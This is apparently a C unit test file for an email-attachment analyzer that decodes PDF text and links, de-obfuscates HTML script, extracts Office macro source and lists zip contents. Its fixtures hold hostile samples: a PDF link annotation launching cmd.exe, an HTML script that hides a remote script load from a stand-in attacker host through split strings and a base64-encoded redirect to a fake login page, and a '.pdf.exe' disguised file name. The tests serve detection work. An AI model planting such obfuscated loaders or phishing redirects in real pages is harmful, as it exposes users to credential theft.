/* Unit tests for analyzers/payloads/views.c: the decoded views of an
 * attachment (the workbench's d): a PDF's text and link annotations, an
 * HTML page's de-obfuscated script, an Office document's macro source, the
 * listing of what a part holds; and the views a format does not give. */
#include "testlib.h"

#include "payloads/views.h"

#include <zip.h>

#define PDF_FIXTURES "tests/fixtures/pdf/"

/* The attachment node of a message whose part 2 is data (the walk's own
 * reading: types, metadata, children), with its report to free. */
static ks_attachment *node_of(const char *type, const char *name, GBytes *data, ks_report **r)
{
	*r = analyze_attachment(type, name, data, NULL);
	assert_true((*r)->attachments->len >= 1);
	return g_ptr_array_index((*r)->attachments, 0);
}

/* The view titled title, or NULL. */
static const ks_part_view *view_named(const GPtrArray *views, const char *title)
{
	for (guint i = 0; i < views->len; i++) {
		const ks_part_view *v = views->pdata[i];
		if (g_str_has_prefix(v->title, title))
			return v;
	}
	return NULL;
}

static GPtrArray *views_of(const char *type, const char *name, GBytes *data)
{
	g_autoptr(ks_report) r = NULL;
	ks_attachment *a = node_of(type, name, data, &r);
	g_autoptr(ks_context) ctx = ks_context_new(); /* no helper program: read here */
	return ks_part_views(a, ctx);
}

/* ---- PDF ---- */

static void pdf_text_is_read_page_by_page(void **state)
{
	(void)state;
	g_autoptr(GBytes) pdf = read_bytes(PDF_FIXTURES "letterhead.pdf");
	g_autoptr(GPtrArray) views = views_of("application/pdf", "aviso.pdf", pdf);
	const ks_part_view *t = view_named(views, "PDF text");
	assert_non_null(t);
	assert_contains(t->text, "── page 1 ──");
	assert_contains(t->text, "Banco do Brasil");
	assert_contains(t->text, "Regularize o acesso pelo link abaixo.");
	/* no link annotation on the page: no links view */
	assert_null(view_named(views, "PDF links"));
}

static void pdf_links_name_their_page_and_action(void **state)
{
	(void)state;
	g_autoptr(GBytes) pdf = read_bytes(PDF_FIXTURES "links_and_launch.pdf");
	g_autoptr(GPtrArray) views = views_of("application/pdf", "invoice.pdf", pdf);
	const ks_part_view *l = view_named(views, "PDF links");
	assert_non_null(l);
	assert_contains(l->text, "page 1  link  URI https://login.evil-example.com/o365?id=42");
	assert_contains(l->text, "page 1  link  LAUNCH cmd.exe");
}

static void pdf_page_of_pictures_says_it_has_no_text(void **state)
{
	(void)state;
	g_autoptr(GBytes) pdf = read_bytes(PDF_FIXTURES "images.pdf");
	g_autoptr(GPtrArray) views = views_of("application/pdf", "scan.pdf", pdf);
	const ks_part_view *t = view_named(views, "PDF text");
	assert_non_null(t);
	assert_contains(t->text, "── page 1 ──\n(no text on this page: it may be a picture)");
}

static void damaged_pdf_says_why_it_has_no_text(void **state)
{
	(void)state;
	static const char junk[] = "%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n";
	g_autoptr(GBytes) pdf = g_bytes_new_static(junk, sizeof junk - 1);
	g_autoptr(GPtrArray) views = views_of("application/pdf", "broken.pdf", pdf);
	const ks_part_view *t = view_named(views, "PDF text");
	assert_non_null(t);
	assert_contains(t->text, "poppler cannot open it");
}

/* ---- HTML ---- */

static void html_script_layers_are_shown_decoded(void **state)
{
	(void)state;
	/* the tag is split so that no one literal holds it; base64 of a
	 * redirect; both are decoded one level, as the analyzer reads them */
	static const char page[] =
		"<html><body><script>\n"
		"document.write('<scr' + 'ipt src=\"https://cdn.evil-example.net/k.js\"></scr' + 'ipt>');\n"
		"var p = atob('d2luZG93LmxvY2F0aW9uPSdodHRwczovL2xvZ2luLmV2aWwtZXhhbXBsZS5jb20vJzsgLy8gcGFk"
		"ZGluZyBwYWRkaW5nIHBhZGRpbmc=');\n"
		"</script></body></html>";
	g_autoptr(GBytes) b = g_bytes_new_static(page, sizeof page - 1);
	g_autoptr(GPtrArray) views = views_of("text/html", "invoice.html", b);
	const ks_part_view *s = view_named(views, "Script, de-obfuscated");
	assert_non_null(s);
	assert_contains(s->text, "joined strings");
	assert_contains(s->text, "<script src=\"https://cdn.evil-example.net/k.js\">");
	assert_contains(s->text, "base64");
	assert_contains(s->text, "window.location='https://login.evil-example.com/'");
}

static void html_without_hidden_script_has_no_script_view(void **state)
{
	(void)state;
	/* a plain script, and a string that only looks joined */
	static const char page[] = "<html><body><p>Meeting at 10 + 2 rooms</p>"
	                           "<script>var total = a + b; console.log('done');</script>"
	                           "</body></html>";
	g_autoptr(GBytes) b = g_bytes_new_static(page, sizeof page - 1);
	g_autoptr(GPtrArray) views = views_of("text/html", "agenda.html", b);
	assert_null(view_named(views, "Script"));
}

/* ---- Office ---- */

/* The member name of the zip at path, or NULL. */
static GBytes *zip_member(const char *path, const char *name)
{
	int err = 0;
	zip_t *za = zip_open(path, ZIP_RDONLY, &err);
	assert_non_null(za);
	zip_stat_t st;
	GBytes *out = NULL;
	if (zip_stat(za, name, 0, &st) == 0) {
		zip_file_t *f = zip_fopen(za, name, 0);
		guint8 *buf = g_malloc(st.size);
		assert_int_equal(zip_fread(f, buf, st.size), (zip_int64_t)st.size);
		zip_fclose(f);
		out = g_bytes_new_take(buf, st.size);
	}
	zip_close(za);
	return out;
}

static void ole_macro_source_is_decompressed_by_module(void **state)
{
	(void)state;
	g_autofree char *path = corpus_path("oletools_testdata", "oleform/oleform-PR314.docm");
	if (!path)
		skip();
	/* the VBA project on its own: an OLE2 compound file with a VBA storage */
	g_autoptr(GBytes) bin = zip_member(path, "word/vbaProject.bin");
	assert_non_null(bin);
	g_autoptr(GPtrArray) views = views_of("application/octet-stream", "vbaProject.bin", bin);
	const ks_part_view *m = view_named(views, "Macro source");
	assert_non_null(m);
	assert_contains(m->text, "── module UserFormTest2 ──");
	/* the source as written, not the lower case the keyword search reads */
	assert_contains(m->text, "Attribute VB_Name = \"UserFormTest2\"");
	assert_contains(m->text, "Private Sub ");
}

static void ooxml_macro_source_comes_from_vba_project_bin(void **state)
{
	(void)state;
	g_autofree char *path = corpus_path("oletools_testdata", "oleform/oleform-PR314.docm");
	if (!path)
		skip();
	g_autoptr(GBytes) docm = read_bytes(path);
	g_autoptr(GPtrArray) views = views_of("application/vnd.ms-word.document.macroEnabled.12",
	                                      "form.docm", docm);
	const ks_part_view *m = view_named(views, "Macro source");
	assert_non_null(m);
	assert_contains(m->text, "── module ThisDocument ──");
	assert_contains(m->text, "Attribute VB_Name = \"ThisDocument\"");
}

static void docx_without_vba_has_no_macro_view(void **state)
{
	(void)state;
	g_autofree char *path = corpus_path("oletools_testdata", "encrypted/encrypted.docx");
	if (!path)
		skip();
	/* an encrypted package is an OLE file with no VBA storage */
	g_autoptr(GBytes) docx = read_bytes(path);
	g_autoptr(GPtrArray) views = views_of("application/octet-stream", "secret.docx", docx);
	assert_null(view_named(views, "Macro source"));
}

/* ---- listings ---- */

static void zip_lists_its_entries(void **state)
{
	(void)state;
	static const char body[] = "MZ not really";
	const zip_member_spec members[] = {
		{"請求書.pdf.exe", body, sizeof body - 1},
		{"readme.txt", "hello", 5},
	};
	g_autoptr(GBytes) zipb = zip_build(members, 2);
	g_autoptr(GPtrArray) views = views_of("application/zip", "docs.zip", zipb);
	const ks_part_view *c = view_named(views, "Contents (2 entries)");
	assert_non_null(c);
	assert_contains(c->text, "2/1    請求書.pdf.exe");
	assert_contains(c->text, "2/2    readme.txt  ");
	assert_contains(c->text, " 5 B\n       sha256 2cf24dba");
}

static void plain_text_part_has_no_views(void **state)
{
	(void)state;
	g_autoptr(GBytes) b = g_bytes_new_static("just text\n", 10);
	g_autoptr(GPtrArray) views = views_of("text/plain", "notes.txt", b);
	assert_int_equal(views->len, 0);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(pdf_text_is_read_page_by_page),
		cmocka_unit_test(pdf_links_name_their_page_and_action),
		cmocka_unit_test(pdf_page_of_pictures_says_it_has_no_text),
		cmocka_unit_test(damaged_pdf_says_why_it_has_no_text),
		cmocka_unit_test(html_script_layers_are_shown_decoded),
		cmocka_unit_test(html_without_hidden_script_has_no_script_view),
		cmocka_unit_test(ole_macro_source_is_decompressed_by_module),
		cmocka_unit_test(ooxml_macro_source_comes_from_vba_project_bin),
		cmocka_unit_test(docx_without_vba_has_no_macro_view),
		cmocka_unit_test(zip_lists_its_entries),
		cmocka_unit_test(plain_text_part_has_no_views),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
